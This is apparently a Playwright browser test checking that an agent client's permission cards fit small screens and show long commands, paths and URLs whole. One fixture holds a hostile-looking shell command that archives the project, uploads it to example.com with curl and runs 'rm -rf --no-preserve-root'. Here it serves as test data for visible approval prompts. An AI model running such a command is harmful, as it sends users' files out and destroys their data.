"""Permission cards in a real Chromium at phone and desktop widths: whatever the agent asks
(long unbroken commands, paths, diffs, file contents), the card fits the screen, shows all of
what is being approved, and its answers stay on screen."""

from __future__ import annotations

from collections.abc import Iterator
from typing import Any

import pytest
from playwright.sync_api import Page, expect

from tests.web.conftest import WebRelay

pytestmark = [pytest.mark.browser, pytest.mark.slow]
expect.set_options(timeout=20000)

WIDTHS = {320: 568, 390: 844, 1440: 900}

LONG = "a" * 700
BASH = {
    "command": f"tar czf /tmp/{LONG}.tgz . && curl -T /tmp/x.tgz https://example.com/upload"
    " && rm -rf --no-preserve-root /THE_DANGEROUS_TAIL",
    "description": "Pack and upload",
}
EDIT = {
    "file_path": f"/home/dev/project/{'deep/' * 60}settings.py",
    "old_string": f"A = 1\nURL = '{LONG}'\nB = 2",
    "new_string": f"A = 1\nURL = '{LONG}/v2'\nB = 2",
}
WRITE = {
    "file_path": "/home/dev/project/data.txt",
    "content": "".join(f"line {n} {'x' * (400 if n % 7 == 0 else 10)}\n" for n in range(1, 121)),
}
WEBFETCH = {"url": f"https://example.com/{LONG}?q=THE_URL_TAIL", "prompt": "Summarise the page"}
CARDS = [("Bash", BASH), ("Edit", EDIT), ("Write", WRITE), ("WebFetch", WEBFETCH)]


@pytest.fixture(params=sorted(WIDTHS), ids=lambda w: f"{w}px")
def sized(request, browser, relay: WebRelay) -> Iterator[tuple[Page, int]]:
    width = request.param
    context = browser.new_context(viewport={"width": width, "height": WIDTHS[width]})
    page = context.new_page()
    errors: list[str] = []
    page.on("pageerror", lambda exc: errors.append(str(exc)))
    page.goto(relay.client_link)
    page.wait_for_selector(".list-view")
    yield page, width
    context.close()
    assert not errors, f"errors in the page: {errors}"


def open_with_requests(page: Page, relay: WebRelay, cards: list[tuple[str, dict]]) -> list[Any]:
    session = relay.agent.create_session("Cards", cwd="/home/dev/project")
    page.goto(f"{relay.url}/#/session/{session['id']}")
    page.wait_for_selector(f"html[data-session-ready='{session['id']}']")
    asked = [relay.agent.ask(session["id"], name, tool_input) for name, tool_input in cards]
    for request in asked:
        expect(page.locator(f".perm[data-perm-id='{request['id']}']")).to_be_visible()
    return asked


def on_screen(page: Page, selector: str) -> list[dict[str, Any]]:
    """Each matching element's box and whether it is the element really hit at its centre
    (not covered, not scrolled out of its box, not outside the window)."""
    return page.eval_on_selector_all(
        selector,
        """els => els.map(el => {
          const r = el.getBoundingClientRect();
          const x = r.left + r.width / 2, y = r.top + r.height / 2;
          const hit = document.elementFromPoint(x, y);
          return {text: el.textContent.trim(), left: r.left, right: r.right, top: r.top,
                  bottom: r.bottom, hit: !!hit && (hit === el || el.contains(hit)),
                  vw: innerWidth, vh: innerHeight};
        })""",
    )


def test_every_card_fits_and_its_buttons_stay_on_screen(
    sized: tuple[Page, int], relay: WebRelay
) -> None:
    page, width = sized
    asked = open_with_requests(page, relay, CARDS)
    # Nothing pushes the page wider than the window.
    assert page.evaluate("document.documentElement.scrollWidth") <= width
    for request in asked:
        card = page.locator(f".perm[data-perm-id='{request['id']}']")
        card.scroll_into_view_if_needed()
        box = card.bounding_box()
        assert box and box["x"] >= 0 and box["x"] + box["width"] <= width, request["tool_name"]
        buttons = on_screen(page, f".perm[data-perm-id='{request['id']}'] .perm-actions .btn")
        assert len(buttons) >= 3
        for b in buttons:
            where = f"{request['tool_name']} {b['text']!r} at {width}px: {b}"
            assert b["left"] >= 0 and b["right"] <= b["vw"], where
            assert b["top"] >= 0 and b["bottom"] <= b["vh"], where
            assert b["hit"], where
            assert b["text"], where  # the label is there
        # Scrolled to the card's end, the buttons are still there.
        page.eval_on_selector(
            f".perm[data-perm-id='{request['id']}'] .perm-footer",
            "el => el.scrollIntoView({block: 'end'})",
        )
        for b in on_screen(page, f".perm[data-perm-id='{request['id']}'] .perm-actions .btn"):
            assert b["hit"] and b["right"] <= b["vw"], b


def test_commands_and_paths_are_shown_whole_and_wrapped(
    sized: tuple[Page, int], relay: WebRelay
) -> None:
    page, width = sized
    bash, edit, webfetch = open_with_requests(
        page, relay, [("Bash", BASH), ("Edit", EDIT), ("WebFetch", WEBFETCH)]
    )
    shown = [
        (bash, ".perm-what pre", BASH["command"]),
        (edit, ".perm-path", EDIT["file_path"]),
        (webfetch, ".perm-path", WEBFETCH["url"]),
    ]
    for request, selector, text in shown:
        el = page.locator(f".perm[data-perm-id='{request['id']}'] {selector}").first
        expect(el).to_be_visible()
        assert el.text_content() == text
        # Wrapped, not clipped: nothing hides to the right, the tail included.
        clipped = el.evaluate("el => el.scrollWidth - el.clientWidth")
        assert clipped <= 1, f"{request['tool_name']} clipped by {clipped}px at {width}px"
        tail = el.evaluate(
            """el => { const r = document.createRange();
              let node = el; while (node.lastChild) node = node.lastChild;
              r.setStart(node, Math.max(0, node.textContent.length - 1));
              r.setEnd(node, node.textContent.length);
              const b = r.getBoundingClientRect(); return b.right; }"""
        )
        assert tail <= width, f"the end of {text[-30:]!r} is off-screen at {width}px"
